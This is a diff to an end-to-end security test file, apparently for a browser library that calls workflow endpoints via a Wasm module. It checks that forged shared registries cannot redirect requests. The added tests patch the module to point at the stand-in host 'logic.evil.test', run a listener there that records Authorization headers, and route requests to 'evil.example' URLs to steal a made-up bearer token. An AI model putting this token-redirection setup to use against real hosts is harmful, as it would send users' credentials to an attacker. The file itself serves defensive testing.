@@ -1,5 +1,6 @@
 /** A script that was there first and forged what copies of the library share: it is told no secret, and is worth a URL. */
 import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
 import { test } from "node:test";
 import { e2e, patient, sandbox, stage } from "./stage.mjs";
 
@@ -53,22 +54,21 @@ const map = (extra = "") => `{
     clear: () => note("clear"),
   }`;
 const forgeries = {
-  "that notes everything": `({ modules: ${map()}, urls: ${map()}, flights: ${map()}, epoch: 0 })`,
-  "that is frozen": `Object.freeze({ modules: Object.freeze(new Map()), urls: Object.freeze(new Map()), flights: Object.freeze(new Map()), epoch: 0 })`,
+  "that notes everything": `({ urls: ${map()}, flights: ${map()}, epoch: 0 })`,
+  "that is frozen": `Object.freeze({ urls: Object.freeze(new Map()), flights: Object.freeze(new Map()), epoch: 0 })`,
   "that is null": "null",
   "that is a number": "7",
   "that is empty": "({})",
   "that throws at everything": `new Proxy({}, { get: () => { throw new Error("get"); }, set: () => { throw new Error("set"); } })`,
-  "whose maps throw": `({ get modules() { throw 1; }, get urls() { throw 2; }, get flights() { throw 3; }, get epoch() { throw 4; } })`,
-  "that counts no epochs": `({ modules: new Map(), urls: new Map(), flights: new Map(), epoch: NaN })`,
-  "whose epoch runs": `({ modules: new Map(), urls: new Map(), flights: new Map(), get epoch() { return performance.now(); } })`,
-  "that has another URL for everything": `({ modules: new Map(), urls: ${map(
+  "whose maps throw": `({ get urls() { throw 1; }, get flights() { throw 2; }, get epoch() { throw 3; } })`,
+  "that counts no epochs": `({ urls: new Map(), flights: new Map(), epoch: NaN })`,
+  "whose epoch runs": `({ urls: new Map(), flights: new Map(), get epoch() { return performance.now(); } })`,
+  "that has another URL for everything": `({ urls: ${map(
     'return "https://evil.example/workflows/1/triggers/manual/paths/invoke";',
   )}, flights: new Map(), epoch: 0 })`,
-  "that has an object for every URL": `({ modules: new Map(), urls: ${map(
+  "that has an object for every URL": `({ urls: ${map(
     'return { toString: () => "https://evil.example/", toJSON: () => "https://evil.example/" };',
   )}, flights: new Map(), epoch: 0 })`,
-  "that has a module without anything in it": `({ modules: { get: () => ({ document, module: new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) }), set: note, delete: note }, urls: new Map(), flights: new Map(), epoch: 0 })`,
 };
 
 for (const [name, source] of Object.entries(forgeries)) {
@@ -119,16 +119,83 @@ test(
   },
 );
 
-test(
-  "another module in the place of ours is `module_blocked`; whoever put it there has code in the page",
-  patient,
-  async () => {
-    e2e.sandbox.page(sandbox.world.orgs.contoso.host, "/e2e/blank.html", {
-      body: "<!doctype html>",
-    });
-    const { value } = await callOver(
-      `({ modules: { get: () => ({ document, module: new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 4, 1, 2, 0, 11])) }), set: note, delete: note }, urls: new Map(), flights: new Map(), epoch: 0 })`,
-    );
-    assert.equal(value.error?.code, "module_blocked");
-  },
+/** Our own module, but that another host is the flow service's; and where it then lets a token go. */
+const planted = Buffer.from(
+  readFileSync(new URL("../../dist/entra-flow.wasm", import.meta.url))
+    .toString("latin1")
+    .replaceAll("logic.azure.com", "logic.evil.test"),
+  "latin1",
 );
+const evil = {
+  host: "prod-1.westeurope.logic.evil.test",
+  path: `/workflows/${"ab".repeat(16)}/triggers/manual/paths/invoke`,
+};
+const evilUrl = `https://${evil.host}${evil.path}?api-version=2016-06-01`;
+
+/** Serves the planted module and `slim.js`, and listens at the host that the module takes for the service's. */
+function plant() {
+  const { host } = sandbox.world.orgs.contoso;
+  const slim = readFileSync(new URL("../../dist/slim.js", import.meta.url), "utf8");
+  e2e.sandbox.page(host, "/e2e/planted.wasm", { body: planted });
+  e2e.sandbox.page(host, "/e2e/slim.js", { body: slim });
+  const heard = [];
+  const allowed = { origin: "*", headers: "authorization, content-type" };
+  e2e.sandbox.page(evil.host, evil.path, {
+    headers: Object.fromEntries(
+      Object.entries(allowed).map(([name, value]) => [`access-control-allow-${name}`, value]),
+    ),
+    handler(request, response) {
+      if (request.method !== "OPTIONS") heard.push(request.headers.authorization);
+      response.setHeader("content-type", "application/json");
+      response.end("{}");
+    },
+  });
+  return heard;
+}
+
+/** In the page: calls over a registry that has the module under every name, compiled, and its host's URL for every flow. */
+async function callOverPlanted([flow, url, { slim, token }]) {
+  const module = await WebAssembly.compileStreaming(fetch("/e2e/planted.wasm"));
+  const entry = { document, module, compiling: Promise.resolve(module) };
+  const found = (value) => ({
+    get: () => value,
+    has: () => true,
+    set() {},
+    delete() {},
+    clear() {},
+  });
+  const members = { urls: found(url), flights: new Map(), epoch: 0 };
+  Object.defineProperty(window, "entra-flow/page/1", {
+    value: new Proxy(members, { get: (own, name) => own[name] ?? found(entry) }),
+  });
+  const library = slim ? await import("/e2e/slim.js") : window.EntraFlow;
+  if (slim) await library.init(slim === "planted" ? module : "/e2e/entra-flow.wasm");
+  const client = await library.FlowClient.create({
+    ...window.hostile.parts,
+    ...(token && { auth: { getToken: async () => token } }),
+    loginHint: "ada@contoso.example",
+  });
+  return (await client.flow(flow).invoke({ order: 7 })).status;
+}
+
+test("a module planted for copies to share would let a token go", patient, async () => {
+  const heard = plant();
+  const given = { slim: "planted", token: "a.made-up.token" };
+  await e2e.get(callOverPlanted, [e2e.id("echo"), evilUrl, given]);
+  assert.deepEqual(heard, ["Bearer a.made-up.token"]);
+  sandbox.requests.length = 0;
+});
+
+for (const [name, given] of [
+  ["the library", {}],
+  ["entra-flow/slim", { slim: "ours" }],
+]) {
+  test(`and is never taken by ${name}, nor is its host's URL`, patient, async () => {
+    const heard = plant();
+    const body = readFileSync(new URL("../../dist/entra-flow.wasm", import.meta.url));
+    e2e.sandbox.page(sandbox.world.orgs.contoso.host, "/e2e/entra-flow.wasm", { body });
+    assert.equal(await e2e.get(callOverPlanted, [e2e.id("echo"), evilUrl, given]), 200);
+    assert.equal(heard.length, 0, "a token went to the planted module's host");
+    assert.equal(sandbox.runs.length, 1);
+  });
+}
